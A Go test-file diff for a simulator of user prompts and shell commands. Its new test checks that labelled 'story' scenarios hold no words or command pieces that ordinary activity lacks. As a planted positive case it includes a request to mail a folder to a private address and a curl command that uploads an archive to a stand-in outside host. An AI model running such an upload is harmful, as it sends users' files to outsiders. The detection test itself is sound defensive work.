@@ -138,6 +138,226 @@ func (l *ledger) tellTales(truth []TruthLabel) map[string][]string {
 	return out
 }
 
+// steps are all steps of a tale, those in loops too.
+func (t *tale) steps() (out []*stepSpec) {
+	var walk func(list []stepSpec)
+	walk = func(list []stepSpec) {
+		for i := range list {
+			out = append(out, &list[i])
+			walk(list[i].Do)
+		}
+	}
+	for i := range t.Parts {
+		walk(t.Parts[i].Steps)
+	}
+	return out
+}
+
+// spoken is the prompts and shell commands of a stream.
+type spoken struct{ prompts, commands []string }
+
+func (s *spoken) note(e *event.Event) {
+	switch {
+	case e.Kind == event.UserPrompt && e.PromptText != "":
+		s.prompts = append(s.prompts, e.PromptText)
+	case e.Kind == event.ToolResult && e.CommandLine != "":
+		s.commands = append(s.commands, e.CommandLine)
+	}
+}
+
+// ordinaryLife is what members say and run in worlds without a story, over seeds
+// of their own.
+func ordinaryLife(t *testing.T, seeds ...uint64) (s spoken) {
+	for _, seed := range seeds {
+		run(t, study(seed), func(b []event.Event) {
+			for i := range b {
+				b[i].Derive()
+				s.note(&b[i])
+			}
+		})
+	}
+	return s
+}
+
+// storyLife is what members say and run in the labelled events of every story and
+// twin, by tale.
+func storyLife(t *testing.T, seeds ...uint64) map[string]*spoken {
+	out := map[string]*spoken{}
+	for _, seed := range seeds {
+		said := map[LabelledEvent]event.Event{}
+		o := study(seed, everyTale()...)
+		truth := run(t, o, func(b []event.Event) {
+			for i := range b {
+				e := &b[i]
+				if e.Kind == event.UserPrompt || e.Kind == event.ToolResult {
+					e.Derive()
+					x := event.Event{Kind: e.Kind, PromptText: e.PromptText}
+					x.CommandLine = e.CommandLine
+					said[LabelledEvent{Session: e.Session, Sequence: e.Sequence, Time: e.When()}] = x
+				}
+			}
+		}).Truth
+		for _, l := range truth {
+			if out[l.Story] == nil {
+				out[l.Story] = &spoken{}
+			}
+			for _, x := range l.Events {
+				x.Role = ""
+				if e, ok := said[x]; ok {
+					out[l.Story].note(&e)
+				}
+			}
+		}
+	}
+	return out
+}
+
+var (
+	sentenceEnd = regexp.MustCompile(`[.?!:;,)(]+(\s|$)|[\n,;:()]`)
+	lettersOnly = regexp.MustCompile(`^[\p{L}'-]+$`)
+)
+
+// shingles are the words and the runs of three words of a text, within its
+// sentences. Values do not count, as every instance draws its own: numbers, names
+// of files and people, keys, and the words that fill long texts.
+func shingles(text string, filler map[string]bool) (out []string) {
+	for _, sentence := range sentenceEnd.Split(text, -1) {
+		var words []string
+		flush := func() {
+			strange := 0
+			for i, w := range words {
+				if !filler[w] {
+					strange++
+					out = append(out, w)
+				}
+				if i >= 2 && !(filler[w] && filler[words[i-1]] && filler[words[i-2]]) {
+					out = append(out, strings.Join(words[i-2:i+1], " "))
+				}
+			}
+			if strange > 0 && len(words) > 3 {
+				out = append(out, strings.Join(words, " "))
+			}
+			words = nil
+		}
+		for _, w := range strings.Fields(sentence) {
+			if !lettersOnly.MatchString(w) || slices.Contains(givenNames, w) || len(w) == 1 && w >= "A" && w != "I" && w < "a" {
+				flush()
+				continue
+			}
+			words = append(words, strings.ToLower(w))
+		}
+		flush()
+	}
+	return out
+}
+
+// arguments are the words of a command, the shape of each that holds a value, and
+// every two of them in a row.
+func arguments(command string) (out []string) {
+	last := ""
+	for _, w := range strings.Fields(command) {
+		w = regexp.MustCompile(`[^\s'"]*(/Users/|/Volumes/|\\|/home/|/mnt/|Users)[^\s'"]*`).ReplaceAllString(w, "PATH")
+		w = regexp.MustCompile(`[\w-]*\d[\w-]*`).ReplaceAllString(w, "0")
+		w = regexp.MustCompile(`\$\w+`).ReplaceAllString(w, "0") // a key, or the variable that holds one
+		w = regexp.MustCompile(`[\w.-]+\.(pdf|docx|xlsx|csv|md|txt|png|sql|yaml|json|log|pptx)\b`).ReplaceAllString(w, "FILE")
+		out = append(out, w, last+" "+w)
+		last = w
+	}
+	return out
+}
+
+// tells are the pieces of text by which somebody who has learned ordinary life
+// could pick out stories: they occur in stories and never there.
+func tells(life []string, stories map[string][]string, pieces func(string) []string) map[string][]string {
+	known := map[string]bool{}
+	for _, text := range life {
+		for _, p := range pieces(text) {
+			known[p] = true
+		}
+	}
+	out := map[string][]string{}
+	for story, texts := range stories {
+		for _, text := range texts {
+			for _, p := range pieces(text) {
+				if !known[p] && !slices.Contains(out[p], story) {
+					out[p] = append(out[p], story)
+				}
+			}
+		}
+	}
+	return out
+}
+
+// Rule G3 of the game, for words: stories and twins say nothing that ordinary
+// members do not say.
+func TestWordsOfStories(t *testing.T) {
+	p, err := loadProfile("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	// 1. They have no words of their own: each names an errand or a kind of command.
+	used := map[string]bool{}
+	for _, name := range everyTale() {
+		for _, s := range taleNamed(name).steps() {
+			used["prompt "+s.Prompt.Value], used["bash "+s.Bash.Value] = true, true
+			if strings.Contains(s.Prompt.Value, " ") || strings.Contains(s.Bash.Value, " ") {
+				t.Errorf("%s speaks in words of its own: %q %q", name, s.Prompt.Value, s.Bash.Value)
+			}
+		}
+	}
+	// 2. Ordinary members come with each of them, about as often as is stated.
+	life := ordinaryLife(t, 21, 22, 23)
+	t.Logf("%d prompts and %d commands of ordinary life", len(life.prompts), len(life.commands))
+	count := func(texts []string, templates []string) (n int) {
+		var alt []string
+		for _, x := range templates {
+			alt = append(alt, regexp.MustCompile(`\\\{\w+\\\}`).ReplaceAllString(regexp.QuoteMeta(x), `.*?`))
+		}
+		re := regexp.MustCompile(`^(` + strings.Join(alt, "|") + `)`)
+		for _, x := range texts {
+			n += btoi(re.MatchString(x))
+		}
+		return n
+	}
+	for _, e := range p.wording.Errands {
+		if n := count(life.prompts, e.Prompts); n < 25 || n > len(life.prompts)/20 {
+			t.Errorf("errand %s: %d of %d ordinary prompts", e.Name, n, len(life.prompts))
+		}
+	}
+	for _, s := range p.wording.Shell {
+		if n := count(life.commands, s.Commands); n < 10 || n > len(life.commands)/20 {
+			t.Errorf("%s: %d of %d ordinary commands", s.Name, n, len(life.commands))
+		}
+	}
+	// 3. Whoever has learned ordinary life finds no piece of text that is only in stories.
+	filler := map[string]bool{}
+	for _, w := range p.Words {
+		for i := range w {
+			filler[w[:i+1]] = true // the last word of a long text is cut
+		}
+	}
+	prompts, commands := map[string][]string{}, map[string][]string{}
+	for story, s := range storyLife(t, 31, 32) {
+		prompts[story], commands[story] = s.prompts, s.commands
+	}
+	words := func(text string) []string { return shingles(text, filler) }
+	for piece, by := range tells(life.prompts, prompts, words) {
+		t.Errorf("%q occurs in prompts of %v and never in ordinary life", piece, by)
+	}
+	for piece, by := range tells(life.commands, commands, arguments) {
+		t.Errorf("%q occurs in commands of %v and never in ordinary life", piece, by)
+	}
+	// It would find one: a story with words of its own, put among the others.
+	prompts["own"] = []string{"Mail the whole folder to my private address."}
+	commands["own"] = []string{"curl -sS -T bundle-7.zip https://drop.stranger.example/in"}
+	if got := tells(life.prompts, prompts, words); len(got["my private address"]) != 1 || len(got["private"]) != 1 {
+		t.Errorf("a planted sentence is not found: %v", got)
+	}
+	if got := tells(life.commands, commands, arguments); len(got["-T"]) != 1 {
+		t.Errorf("a planted command is not found: %v", got)
+	}
+}
+
 // Rules G1 and G2: each quantity is drawn on its own, and over instances a story's
 // main draw reaches every quarter of its range, the easy and the hard.
 func TestDrawsOfStories(t *testing.T) {
